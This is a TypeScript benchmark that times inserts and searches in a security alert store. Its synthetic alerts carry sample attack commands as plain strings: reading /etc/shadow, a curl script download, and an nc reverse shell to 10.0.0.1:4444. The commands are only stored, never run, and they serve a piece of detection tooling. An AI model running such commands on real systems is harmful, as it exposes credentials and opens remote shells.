/**
 * Web UI store benchmark (issue: web UI). Measures in one process:
 *   - inserts/s into the alert store (batches of 500, as the sidekick's webui output hands them over,
 *     with the time-ordered uuids the sidekick assigns), next to a bare better-sqlite3 insert of the
 *     same JSON into an unindexed table (the baseline), each with its CPU time and bytes written per
 *     alert (steadier than the rate when the machine is shared);
 *   - `events/search` latency (p50/p95) with the store filled to `--alerts` alerts (default 1,000,000)
 *     for a rule+priority filter and for a free-text query.
 * Prints the figures and writes bench/results/store.json. Not a test: nothing passes or fails on time.
 *
 * The results carry the 1/5/15-minute load averages at the start and end of the run.
 *
 *   npx tsx bench/store.ts [--alerts 1000000]
 *   npx tsx bench/store.ts --cache-mib 8,16,32,64 [--alerts 1000000]
 * The second form compares page cache sizes in one run: for each size, a new store filled to
 * `--alerts` alerts, its insert CPU per alert over the whole fill and over the last 100,000 (where
 * the indexes outgrow a small cache), search p95 and this process's RSS; printed, not written.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { PRIORITIES, type Alert } from '../contract/index.js';
import { timeOrderedUuid } from '../contract/uuid.js';
import { AlertStore } from '../sidekick/alert-store/index.js';

const flag = process.argv.indexOf('--alerts');
const TOTAL = flag > 0 ? Number(process.argv[flag + 1]) : 1_000_000;
const cacheFlag = process.argv.indexOf('--cache-mib');
const CACHE_SIZES_MIB = cacheFlag > 0 ? String(process.argv[cacheFlag + 1]).split(',').map(Number) : undefined;
const BATCH = 500;
const RULES = Array.from({ length: 40 }, (_, i) => `Rule number ${i}`);
const HOSTS = Array.from({ length: 50 }, (_, i) => `node-${i}`);
const COMMANDS = ['cat /etc/shadow', 'bash -i', 'curl http://example.com/x.sh', 'nc -e /bin/sh 10.0.0.1 4444', 'apt-get install nmap', 'python3 app.py'];

function alert(i: number): Alert {
  const rule = RULES[i % RULES.length] as string;
  const command = COMMANDS[i % COMMANDS.length] as string;
  return {
    // The uuid the sidekick assigns on ingest (time-ordered), so the store's uuid index sees real keys.
    uuid: timeOrderedUuid(),
    time: new Date(Date.now() - (TOTAL - i) * 100).toISOString().replace('Z', '000000Z'),
    rule,
    priority: PRIORITIES[i % PRIORITIES.length] as Alert['priority'],
    source: i % 10 === 0 ? 'k8s_audit' : 'syscall',
    hostname: HOSTS[i % HOSTS.length] as string,
    output: `10:00:00.000000000: Warning ${rule} (command=${command} user=root container=host id=${i})`,
    output_fields: { 'proc.cmdline': command, 'user.name': 'root', 'container.id': 'host', 'evt.num': i },
    tags: ['saker', i % 2 ? 'network' : 'filesystem'],
  };
}

/** Bytes this process has caused to be written to storage so far (Linux); undefined elsewhere. */
function bytesWritten(): number | undefined {
  try {
    const found = /^write_bytes: (\d+)$/m.exec(readFileSync('/proc/self/io', 'utf8'));
    return found ? Number(found[1]) : undefined;
  } catch {
    return undefined;
  }
}

/**
 * Runs `work` over `alerts` alerts and returns its rate with what it cost per alert: CPU time of this
 * process (user + system) and bytes written. On a shared machine the wall-clock rate moves with the
 * neighbours' load; the cost per alert does not, so it is what tells two runs apart.
 */
function measure(alerts: number, work: () => void): { perSecond: number; cpuMicrosPerAlert: number; bytesWrittenPerAlert?: number } {
  const bytesBefore = bytesWritten();
  const cpuBefore = process.cpuUsage();
  const start = performance.now();
  work();
  const seconds = (performance.now() - start) / 1000;
  const cpu = process.cpuUsage(cpuBefore);
  const bytesAfter = bytesWritten();
  return {
    perSecond: Math.round(alerts / seconds),
    cpuMicrosPerAlert: Number(((cpu.user + cpu.system) / alerts).toFixed(1)),
    ...(bytesBefore !== undefined && bytesAfter !== undefined ? { bytesWrittenPerAlert: Math.round((bytesAfter - bytesBefore) / alerts) } : {}),
  };
}

function percentile(sorted: number[], p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? 0;
}

/** Latency percentiles of `query`, and its mean CPU time (steadier than latency on a shared machine). */
const timeQuery = (query: () => unknown, runs = 40): { p50Ms: number; p95Ms: number; cpuMs: number } => {
  const samples: number[] = [];
  const cpuBefore = process.cpuUsage();
  for (let i = 0; i < runs; i++) {
    const t = performance.now();
    query();
    samples.push(performance.now() - t);
  }
  const cpu = process.cpuUsage(cpuBefore);
  samples.sort((a, b) => a - b);
  return {
    p50Ms: Number(percentile(samples, 50).toFixed(2)),
    p95Ms: Number(percentile(samples, 95).toFixed(2)),
    cpuMs: Number(((cpu.user + cpu.system) / 1000 / runs).toFixed(2)),
  };
};

/** `--cache-mib`: the same fill and searches at each page cache size, one store after the other. */
function compareCacheSizes(sizes: readonly number[]): void {
  const dir = mkdtempSync(join(tmpdir(), 'saker-bench-store-cache-'));
  const tail = Math.min(TOTAL, 100_000);
  try {
    for (const mib of sizes) {
      const store = AlertStore.open({ directory: join(dir, `${mib}`), retention: { maxAgeSeconds: 0, maxRows: 0, maxBytes: 0 }, pageCacheKib: mib * 1024 });
      const head = measure(TOTAL - tail, () => {
        for (let i = 0; i < TOTAL - tail; i += BATCH) store.insert(Array.from({ length: Math.min(BATCH, TOTAL - tail - i) }, (_, j) => alert(i + j)));
      });
      const last = measure(tail, () => {
        for (let i = TOTAL - tail; i < TOTAL; i += BATCH) store.insert(Array.from({ length: Math.min(BATCH, TOTAL - i) }, (_, j) => alert(i + j)));
      });
      let n = 0;
      const rulePriority = timeQuery(() => store.search({ rules: [RULES[n++ % RULES.length] as string], priorities: ['Critical', 'Error'] }, { limit: 100, offset: 0 }));
      const freeText = timeQuery(() => store.search({ text: ['shadow', 'nmap', 'example', '4444'][n++ % 4] as string }, { limit: 100, offset: 0 }));
      const rssMib = process.memoryUsage().rss / 1048576;
      store.close();
      const cpuAll = ((TOTAL > tail ? head.cpuMicrosPerAlert * (TOTAL - tail) : 0) + last.cpuMicrosPerAlert * tail) / TOTAL;
      console.log(
        `cache ${mib} MiB: insert ${cpuAll.toFixed(1)} µs CPU/alert (last ${tail.toLocaleString()}: ${last.cpuMicrosPerAlert} µs, ${last.bytesWrittenPerAlert ?? '?'} B written), ` +
          `search with ${TOTAL.toLocaleString()}: rule+priority p50/p95 ${rulePriority.p50Ms}/${rulePriority.p95Ms} ms (CPU ${rulePriority.cpuMs} ms), ` +
          `free text ${freeText.p50Ms}/${freeText.p95Ms} ms (CPU ${freeText.cpuMs} ms); ` +
          `process RSS ${rssMib.toFixed(0)} MiB; load ${loadavg()[0]?.toFixed(1)}`,
      );
      rmSync(join(dir, `${mib}`), { recursive: true, force: true });
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

if (CACHE_SIZES_MIB) {
  compareCacheSizes(CACHE_SIZES_MIB);
  process.exit(0);
}

// The machine may be shared: the load average before and after goes with the figures.
const loadAtStart = loadavg().map((n) => Number(n.toFixed(2)));
const dir = mkdtempSync(join(tmpdir(), 'saker-bench-store-'));
try {
  // Baseline: the same JSON rows into one unindexed table, in the same batch transactions.
  const SAMPLE = Math.min(TOTAL, 100_000);
  const bare = new Database(join(dir, 'bare.db'));
  bare.pragma('journal_mode = WAL');
  bare.pragma('synchronous = NORMAL');
  bare.exec('CREATE TABLE alerts (id INTEGER PRIMARY KEY, body TEXT NOT NULL)');
  const insert = bare.prepare('INSERT INTO alerts (body) VALUES (?)');
  const insertMany = bare.transaction((rows: Alert[]) => {
    for (const row of rows) insert.run(JSON.stringify(row));
  });
  const bareRun = measure(SAMPLE, () => {
    for (let i = 0; i < SAMPLE; i += BATCH) insertMany(Array.from({ length: BATCH }, (_, j) => alert(i + j)));
  });
  bare.close();

  const store = AlertStore.open({ directory: join(dir, 'store'), retention: { maxAgeSeconds: 0, maxRows: 0, maxBytes: 0 } });
  const storeRun = measure(SAMPLE, () => {
    for (let i = 0; i < SAMPLE; i += BATCH) store.insert(Array.from({ length: BATCH }, (_, j) => alert(i + j)));
  });
  for (let i = SAMPLE; i < TOTAL; i += BATCH) store.insert(Array.from({ length: Math.min(BATCH, TOTAL - i) }, (_, j) => alert(i + j)));

  let n = 0;
  const rulePriority = timeQuery(() => store.search({ rules: [RULES[n++ % RULES.length] as string], priorities: ['Critical', 'Error'] }, { limit: 100, offset: 0 }));
  const freeText = timeQuery(() => store.search({ text: ['shadow', 'nmap', 'example', '4444'][n++ % 4] as string }, { limit: 100, offset: 0 }));
  store.close();

  const results = {
    date: new Date().toISOString(),
    node: process.version,
    loadAverage: { start: loadAtStart, end: loadavg().map((n) => Number(n.toFixed(2))) },
    inserts: {
      alerts: SAMPLE,
      batch: BATCH,
      storePerSecond: storeRun.perSecond,
      bareSqlitePerSecond: bareRun.perSecond,
      targetPerSecond: 20_000,
      store: storeRun,
      bareSqlite: bareRun,
    },
    search: { storedAlerts: TOTAL, rulePriority, freeText, targetP95Ms: 100 },
  };
  console.log(
    `inserts: ${results.inserts.storePerSecond.toLocaleString()}/s into the store vs ${results.inserts.bareSqlitePerSecond.toLocaleString()}/s bare SQLite ` +
      `(ratio ${(storeRun.perSecond / bareRun.perSecond).toFixed(3)}; target ≥ 20,000/s)`,
  );
  const bytes = (run: { bytesWrittenPerAlert?: number }) => (run.bytesWrittenPerAlert === undefined ? '' : `, ${run.bytesWrittenPerAlert} B written`);
  console.log(
    `per alert: store ${storeRun.cpuMicrosPerAlert} µs CPU${bytes(storeRun)}; bare SQLite ${bareRun.cpuMicrosPerAlert} µs CPU${bytes(bareRun)}`,
  );
  console.log(`search with ${TOTAL.toLocaleString()} alerts: rule+priority p95 ${rulePriority.p95Ms} ms, free text p95 ${freeText.p95Ms} ms (target ≤ 100 ms)`);
  mkdirSync(new URL('./results/', import.meta.url), { recursive: true });
  writeFileSync(new URL('./results/store.json', import.meta.url), `${JSON.stringify(results, null, 2)}\n`);
} finally {
  rmSync(dir, { recursive: true, force: true });
}
